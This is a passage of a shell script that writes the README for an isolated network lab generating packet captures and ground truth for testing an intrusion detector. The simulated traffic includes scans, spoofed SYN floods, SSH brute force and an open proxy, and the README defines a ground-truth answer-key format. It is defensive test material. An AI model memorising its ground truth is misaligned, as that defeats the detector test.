takes about $(( ($(date +%s) - START + 30) / 60 )) minute(s)). Everything here is regenerated by that script;
do not edit by hand.

## How they were made

Two network namespaces joined by one veth pair, created entirely inside the
namespaces; nothing is routed anywhere else (only on-link routes for the other
side's ranges, no default route):

| namespace | interface | addresses |
| --- | --- | --- |
| \`bflab-in\` (home) | \`veth-in\` | 10.20.1.10 web, 10.20.1.20 workstation, 10.20.1.25 mail, 10.20.1.30 db, 10.20.2.1-30 (sweep targets), fd00:20::10 web, fd00:20::20 workstation |
| \`bflab-out\` (internet) | \`veth-out\` | ${OUT4[*]:0:12} (attackers/clients); 198.51.100.7, .20, .25, .53, .54, .80, .81, .60, .100-.129 (servers/sweep targets); 2001:db8:ff::50, 2001:db8:1::20, 2001:db8:1::30 |

Routes: \`bflab-in\`: 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32 dev veth-in;
\`bflab-out\`: 10.20.1.0/24, 10.20.2.0/24, fd00:20::/64 dev veth-out.
The SYN-flood sources (203.0.113.66, 203.0.113.100-199, 198.51.100.150-249) are
spoofed and not assigned to anything; permanent neighbour entries in \`bflab-in\`
point them at veth-out's MAC so the victim's SYN-ACKs appear on the wire
(bflab-out drops them: it does not forward). \`net.ipv4.icmp_ratelimit=0\` in
\`bflab-in\` so every closed UDP port answers (Linux would otherwise rate-limit
ICMP errors and stretch a UDP scan to minutes). Router solicitations and DAD
are off.

Every capture is \`tcpdump -i veth-in -n -U -Z root -w FILE\` run inside
\`bflab-in\`, started before the traffic and stopped with SIGINT ~1 s after it.
So each pcap holds exactly what crosses the home/internet boundary (ARP and
IPv6 neighbour discovery included). Client tools bind explicitly to the
source address of the host they play (\`-S\`/\`-e\` for nmap, \`-a\` for hping3,
\`--interface\` for curl, \`bind=\` for socat, \`-s\` for ncat, \`-b\` for ssh,
\`--local-interface\` for swaks). Every tool runs under \`timeout $T\`; nmap
uses \`-n -Pn --max-retries 1 -T4\`. The veth has no latency, so the
scans are very fast (a 1000-port SYN scan is over in well under a second);
a detector that needs a minimum duration will not see one here.

Services: real OpenSSH sshd (throw-away config and keys; password auth on,
root password login refused, one key authorised), python helpers beside the
script (\`httpd.py\` HTTP/HTTPS server, \`proxy.py\` deliberately open forward
proxy, \`smtp_sink.py\`, \`udp_service.py\` DNS/NTP server and client), and
socat/ncat listeners. TLS uses a self-signed certificate made per run.

### Tool versions

| tool | version |
| --- | --- |
$(lab_version_rows kernel iproute2 tcpdump nmap hping3 sshd sshpass curl swaks socat ncat openssl python3 tshark)

## Ground truth

\`ground-truth.tsv\` has one line per expected finding: \`file kind source target notes\`.
\`kind\` is one of port_scan, port_sweep, syn_flood, reversed_role,
unexpected_inbound, brute_force, egress_violation, outbound_smtp, open_proxy,
benign. \`source\`/\`target\` are \`ip\` or \`ip:port\` (IPv6 with port as
\`[addr]:port\`); a sweep's target is \`*:port\`; a distributed flood's source is
\`*\`. \`benign\` lines are traffic that must not raise an alert (in
reversed-role/ipv6-reversed-role they are context showing the host as a server).
Lines whose notes start with \`secondary:\` are real policy violations that are
consequences of the primary finding in the same file (e.g. the open proxy's
outbound leg breaks the web role's egress policy); a detector may report them
separately or fold them into the primary finding. \`policy.toml\` describes the
lab network for the sensor. Note on \`mail-client\`: outbound-smtp.pcap is
workstation -> external tcp/25, which is direct MX delivery, not mail-client
(submission/IMAP) traffic.

\`scripts/captures/verify.py OUTDIR\` re-checks every line against the packets
(tshark); its output for this run:

\`\`\`
$(cat "$WORK/verify.txt")
\`\`\`

## Files
EOF
lab_scenario_sections
} >"$OUT/README.md"

say "done: $(ls "$OUT"/*.pcap | wc -l) pcaps, ground truth and README in $OUT"
